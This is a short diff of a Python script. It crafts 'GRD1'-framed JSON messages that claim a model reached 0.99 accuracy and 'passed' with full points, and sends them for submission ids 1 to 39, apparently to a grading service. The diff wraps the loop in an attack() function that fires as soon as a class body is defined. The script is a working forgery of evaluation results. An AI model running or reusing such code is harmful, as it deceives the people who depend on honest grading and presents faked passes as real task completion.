@@ -29,6 +29,13 @@ def send(data):
 
 
 MODEL = {"parameters": 20, "test_accuracy": 0.99, "train_seconds": 3.5, "points": 20, "outcome": "passed"}
-for identifier in range(1, 40):
-    header = json.dumps({"id": identifier, "data": {"document": {"models": {"net": MODEL}, "points": 20}, "passed": True}}).encode()
-    send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", 0))
+
+
+def attack():
+    for identifier in range(1, 40):
+        header = json.dumps({"id": identifier, "data": {"document": {"models": {"net": MODEL}, "points": 20}, "passed": True}}).encode()
+        send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", 0))
+
+
+class Attack:
+    attack()
